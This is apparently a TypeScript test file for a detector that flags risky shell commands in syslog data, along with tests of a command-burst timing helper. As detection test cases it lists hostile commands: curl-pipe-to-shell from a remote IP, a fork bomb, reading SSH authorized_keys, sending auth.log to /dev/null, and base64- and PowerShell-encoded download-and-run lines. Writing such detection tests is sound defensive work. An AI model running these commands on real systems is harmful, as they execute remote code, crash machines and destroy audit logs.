import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { bursts } from '../../../shared/commands/bursts.ts';
import { decodedRuns } from '../../../shared/commands/hidden.ts';
import { riskyJudge } from '../../../shared/commands/risky.ts';

const judge = riskyJudge({ logType: 'Syslog', hidden: decodedRuns });
const base64 = (text: string, encoding: BufferEncoding = 'utf8'): string => Buffer.from(text, encoding).toString('base64');

describe('riskyJudge', () => {
  it.each([
    ['cat ~/.ssh/authorized_keys', ['authorized_keys'], true],
    ['cd ~/.ssh; vi authorized_keys', ['authorized_keys'], true],
    ['curl -s http://198.51.100.7/x | sh', ['download_shell'], true],
    ['wget http://pushover.net', ['download_shell'], false],
    ['first line\ncurl x |\nsh', ['download_shell'], true],
    [':(){ :|:& };:', ['fork_bomb'], true],
    ['mv /var/log/auth.log /dev/null', ['mv_dev_null'], true],
    ['/bin/bash -c "wget x; sh x"', ['download_shell', 'bin_bash'], true],
  ])('%j: %j', (command, rules, certain) => {
    expect(judge(command)).toMatchObject({ rules, certain, decoded: null });
  });

  it.each(['ls /bin', 'sh x; curl y', 'sh', 'cat /dev/null', 'c2hvcnQ='])('leaves %j alone', (command) => {
    expect(judge(command)).toBeUndefined();
  });

  it.each([
    ['UTF-8', `echo ${base64('wget http://x | sh')} | base64 -d`],
    ['UTF-16', `powershell -enc ${base64('wget http://x | sh', 'utf16le')}`],
  ])('reads base64 of %s and says so', (_, command) => {
    expect(judge(command)).toMatchObject({ rules: ['download_shell'], decoded: 'wget http://x | sh', why: [expect.stringContaining('encoded')] });
  });

  it("matches a caller's rules from the start, across lines, and each by its name", () => {
    const own = riskyJudge({ logType: 'Mine', rules: { Mine: ['.*apt.get', 'get'] }, hidden: decodedRuns });
    expect(own('a\napt-get install')?.rules).toEqual(['.*apt.get']);
    expect(own('install get')).toBeUndefined();
  });

  it.each([
    ['an unknown log type', { logType: 'Auditd', hidden: decodedRuns }, 'logType'],
    ['a pattern that is none', { logType: 'Mine', rules: { Mine: ['('] }, hidden: decodedRuns }, 'rules.Mine.0'],
    ['look-around', { logType: 'Mine', rules: { Mine: ['(?=x)'] }, hidden: decodedRuns }, 'rules.Mine.0'],
  ])('refuses %s and names the field', (_, options, field) => {
    expect(() => riskyJudge(options)).toThrow(expect.objectContaining({ code: 'invalid-input', flaws: [expect.objectContaining({ field })] }));
  });

  it('reads any text, and finds what it is wrapped in', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        expect(judge(`${text} curl x | sh`)?.rules).toContain('download_shell');
      }),
    );
  });

  it.each([
    ['curl without end', 'curl '],
    ['letters of base64', 'QUJD'],
    ['blanks in a fork bomb', ':() '],
    ['words', 'wget push '],
  ])('costs linear time: %s', (_, piece) => {
    const text = piece.repeat(2_000_000 / piece.length);
    const started = performance.now();
    judge(text);
    // Anything quadratic would take hours.
    expect(performance.now() - started).toBeLessThan(5000);
  });
});

describe('bursts', () => {
  const commands = (...times: number[]) => times.map((time, row) => ({ time: time * 1000, row }));
  it.each([
    ['exactly the time', commands(0, 2, 5), [[0, [0, 1, 2]]]],
    ['too long', commands(0, 2, 5.1), []],
    ['unsorted rows', commands(5, 0, 2), [[0, [1, 2, 0]]]],
    ['overlapping windows', commands(0, 1, 2, 3), [[0, [0, 1, 2]], [1, [1, 2, 3]]]],
    ['too few', commands(0, 1), []],
  ])('%s', (_, given, wanted) => {
    expect([...bursts(given, { events: 3, seconds: 5 })].map(({ start, rows }) => [start, rows])).toEqual(wanted);
  });
});
